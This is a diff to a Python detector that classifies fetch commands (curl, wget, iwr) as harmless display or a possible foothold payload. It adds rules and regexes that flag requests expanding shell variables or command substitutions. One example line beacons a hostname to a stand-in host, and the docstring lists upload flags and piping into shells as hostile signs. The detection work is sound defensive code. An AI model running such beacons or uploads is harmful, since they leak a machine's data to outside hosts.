@@ -11,6 +11,9 @@ or a service as the payload of a foothold. A fetch (``curl``, ``wget``, ``iwr``,
   terminal, and ``/dev/null`` are no file), no ``>`` other than ``> /dev/null``;
 - uploads nothing: no ``-d``, ``--data...``, ``-F``/``--form``, ``-T``/``--upload-file``,
   ``--json``, ``--post-...``, ``--body-...``, ``-X POST|PUT|PATCH``, no ``@file``;
+- expands nothing into its request: no ``$(...)``, backquoted command, ``$NAME`` or
+  ``${...}`` outside single quotes (``curl -s https://x.example/?h=$(hostname)`` in a cron
+  job is a beacon: it sends what it expands to);
 - and is piped, if at all, only into programs that display text (``jq``, ``head``,
   ``grep``, ``less``...), never into a shell, an interpreter, ``tee`` or ``xargs``.
 
@@ -37,6 +40,11 @@ _DISPLAY = re.compile(
     r"convertfrom-json)(?![\w-])", re.IGNORECASE)
 _TO_NULL = re.compile(r">\s*/dev/null|>&[12]|>\s*\$null", re.IGNORECASE)
 _NO_FILE = r"(?!-(?:\s|$)|/dev/null)"
+_SINGLE_QUOTED = re.compile(r"'[^'\n]*'")
+_EXPANDS = re.compile(r"\$[({A-Za-z_]")
+# a backquoted command right after the request's last character (no space between): not
+# the close of a markdown code span, which a space or the line's end follows
+_BACKQUOTED = re.compile(r"(?<=\S)`[A-Za-z_][^`\n]*`")
 _SAVES = re.compile(
     rf"(?<!\S)(?:-[a-z]*o(?=\s|$)(?!\s*-(?:\s|$)|\s*/dev/null)|"
     rf"--output(?:-document)?(?:\s+|=){_NO_FILE}|--remote-name\S*|-outfile)", re.IGNORECASE)
@@ -62,6 +70,9 @@ def _is_shown(text: str, fetch: re.Match[str], limit: int) -> tuple[bool, int]:
         return False, fetch.end()
     end, sign = _command_end(text, fetch.end(), limit)
     command = text[fetch.end():end]
+    if _EXPANDS.search(_SINGLE_QUOTED.sub("", command)) or \
+            (sign == "`" and _BACKQUOTED.match(text, end)):
+        return False, end  # the machine's data expanded into the request
     while sign == ">":
         null = _TO_NULL.match(text, end)
         if null is None:
